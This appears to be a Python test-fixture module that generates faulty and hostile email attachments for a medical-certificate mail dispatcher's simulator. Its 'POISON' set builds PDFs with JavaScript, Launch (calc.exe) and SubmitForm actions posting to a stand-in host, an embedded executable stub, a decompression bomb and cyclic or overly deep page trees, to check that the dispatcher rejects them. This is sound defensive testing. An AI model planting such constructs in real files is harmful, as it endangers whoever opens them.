"""Faults of the attachment: missing, misnamed, one too many, no PDF, a bad or poisonous PDF."""

from __future__ import annotations

import functools
import zlib
from collections.abc import Callable
from dataclasses import replace
from typing import Final

from dispatcher.simulator import mail, pdf
from dispatcher.simulator.cases import FULL_SIZE, Case, Sending, certificate
from dispatcher.simulator.faults.shape import DELIVER, Change, Fault, held, held_as_bytes
from dispatcher.simulator.mail import Enclosure, Letter

# The largest message that the program takes is 10 MB: this one comes to 11.
_TOO_LARGE: Final = 8_100_000
# Over the guide's 1 Mo and below what the program takes.
_OVER_THE_GUIDE: Final = 1_500_000
_TOO_MANY_PARTS: Final = 60
_MEGABYTE: Final = 1024 * 1024
_BOMB: Final = 200
_DEPTH: Final = 400

# A word processor's file and a web page, as far as their first bytes tell.
_ZIP: Final = b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00[Content_Types].xml" * 40
_PAGE: Final = "<!DOCTYPE html><html><body>Erreur 503 : réessayez.</body></html>".encode() * 40


def _renamed(change: Callable[[Case], str | None]) -> Change:
    def apply(about: Case, letter: Letter) -> Letter:
        return replace(letter, enclosures=(replace(letter.enclosures[0], name=change(about)),))

    return apply


def _content(change: Callable[[Case, bytes], bytes]) -> Change:
    def apply(about: Case, letter: Letter) -> Letter:
        only = letter.enclosures[0]
        return replace(letter, enclosures=(replace(only, content=change(about, only.content)),))

    return apply


def _emptied(_about: Case, letter: Letter) -> Letter:
    return replace(letter, enclosures=())


def _doubled(about: Case, letter: Letter) -> Letter:
    other = replace(about, patient=about.other_patient())
    second = Enclosure(mail.file_name(other.patient, other.exam), other.document())
    return replace(letter, enclosures=(*letter.enclosures, second))


def _with_message(_about: Case, letter: Letter) -> Letter:
    inner = b"From: x@example.org\r\nSubject: autre\r\n\r\nVoir ci-joint.\r\n"
    return replace(
        letter, enclosures=(*letter.enclosures, Enclosure(None, inner, "message/rfc822"))
    )


def _with_many(_about: Case, letter: Letter) -> Letter:
    more = tuple(
        Enclosure(f"note-{number}.txt", b"rien", "text/plain")
        for number in range(_TOO_MANY_PARTS)
    )
    return replace(letter, enclosures=(*letter.enclosures, *more))


# --- documents ---------------------------------------------------------------------------


def _locked(about: Case, _document: bytes) -> bytes:
    return pdf.certificate(about.patient, about.exam, encrypted=True)


def _with_action(action: bytes) -> Callable[[Case, bytes], bytes]:
    return lambda _about, document: pdf.with_objects(
        document, (action,), catalog=b"/OpenAction <<0>> 0 R"
    )


def _with_file_inside(_about: Case, document: bytes) -> bytes:
    objects = (
        pdf.stream(b"MZ"),
        b"<< /Type /Filespec /F (lisez.exe) /UF (lisez.exe) /EF << /F <<0>> 0 R >> >>",
    )
    tree = b"/Names << /EmbeddedFiles << /Names [(lisez.exe) <<1>> 0 R] >> >>"
    return pdf.with_objects(document, objects, catalog=tree)


def _cut_short(_about: Case, document: bytes) -> bytes:
    # Inside the first objects, so that no reader can repair a page out of the rest.
    return document[:600]


def _scrambled(about: Case, document: bytes) -> bytes:
    return b"%PDF-1.4\n" + about.rng.randbytes(len(document) // 4) + b"\n%%EOF\n"


@functools.cache
def _packed_bomb() -> bytes:
    """Return 200 kB that unpack to 200 MB."""
    packer = zlib.compressobj(9)
    packed = [packer.compress(bytes(_MEGABYTE)) for _ in range(_BOMB)]
    return b"".join((*packed, packer.flush()))


def _bomb(_about: Case, document: bytes) -> bytes:
    """Hide an object in a stream that is a thousand times larger when unpacked."""
    packed = _packed_bomb()
    head = b"/Type /ObjStm /N 1 /First 10 /Filter /FlateDecode"
    body = b"<< %s /Length %d >>\nstream\n%s\nendstream" % (head, len(packed), packed)
    return pdf.with_objects(document, (body,))


def _endless(_about: Case, document: bytes) -> bytes:
    """Let a branch of the page tree lead back to itself."""
    branch = b"<< /Type /Pages /Count 1 /Kids [<<0>> 0 R] >>"
    return pdf.with_objects(document, (branch,), catalog=b"/Pages <<0>> 0 R")


def _deep(_about: Case, document: bytes) -> bytes:
    """Nest the page tree far deeper than any producer does."""
    branches = tuple(
        b"<< /Type /Pages /Count 1 /Kids [<<%d>> 0 R] >>" % (number + 1)
        for number in range(_DEPTH)
    )
    page = b"<< /Type /Page /MediaBox [0 0 595 842] >>"
    return pdf.with_objects(document, (*branches, page), catalog=b"/Pages <<0>> 0 R")


def _pageless(_about: Case, document: bytes) -> bytes:
    branch = b"<< /Type /Pages /Count 0 /Kids [] >>"
    return pdf.with_objects(document, (branch,), catalog=b"/Pages <<0>> 0 R")


def _huge(about: Case, document: bytes) -> bytes:
    return pdf.with_objects(document, (pdf.stream(about.rng.randbytes(_TOO_LARGE)),))


# --- the transfer encoding ---------------------------------------------------------------


def _damaged(raw: bytes) -> bytes:
    """Lose three letters of the base64, as a gateway that cuts lines does."""
    place = raw.index(b"JVBERi") + 4000
    line = raw.index(b"\r\n", place)
    return raw[: line - 3] + raw[line:]


def _sized(name: str, size: int) -> Fault:
    def build(about: Case) -> tuple[Sending, ...]:
        return (replace(certificate(replace(about, size=size)), case=name),)

    return Fault(name, build, must=DELIVER)


_SCRIPT: Final = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
_LAUNCH: Final = b"<< /S /Launch /F (calc.exe) >>"
_SUBMIT: Final = b"<< /S /SubmitForm /F << /FS /URL /F (https://piege.example/) >> >>"

ATTACHMENT: Final = (
    held("attachment-missing", "attachment-missing", _emptied),
    held(
        "attachment-named-otherwise",
        "attachment-name-unreadable",
        _renamed(lambda _about: "certificat.pdf"),
    ),
    held("attachment-nameless", "attachment-name-unreadable", _renamed(lambda _about: None)),
    held_as_bytes("attachment-damaged", "pdf-unreadable", _damaged),
    held("two-certificates", "several-certificates", _doubled),
    held("message-attached", "several-certificates", _with_message),
    held("too-many-parts", "too-large", _with_many),
    held("too-large", "too-large", _content(_huge)),
    _sized("full-size", FULL_SIZE),
    _sized("larger-than-the-guide", _OVER_THE_GUIDE),
)

DOCUMENT: Final = (
    held("pdf-is-a-zip", "not-a-pdf", _content(lambda _about, _document: _ZIP)),
    held("pdf-is-a-page", "not-a-pdf", _content(lambda _about, _document: _PAGE)),
    held("pdf-is-empty", "not-a-pdf", _content(lambda _about, _document: b"")),
    held("pdf-encrypted", "pdf-encrypted", _content(_locked)),
    held("pdf-cut-short", "pdf-unreadable", _content(_cut_short)),
    held("pdf-scrambled", "pdf-unreadable", _content(_scrambled)),
    held("pdf-without-a-page", "pdf-unreadable", _content(_pageless)),
)

POISON: Final = (
    held("pdf-with-javascript", "pdf-active-content", _content(_with_action(_SCRIPT))),
    held("pdf-with-launch", "pdf-active-content", _content(_with_action(_LAUNCH))),
    held("pdf-that-submits", "pdf-active-content", _content(_with_action(_SUBMIT))),
    held("pdf-with-embedded-file", "pdf-active-content", _content(_with_file_inside)),
    held("pdf-bomb", "pdf-unreadable", _content(_bomb)),
    held("pdf-endless", "pdf-unreadable", _content(_endless)),
    held("pdf-too-deep", "pdf-unreadable", _content(_deep)),
)
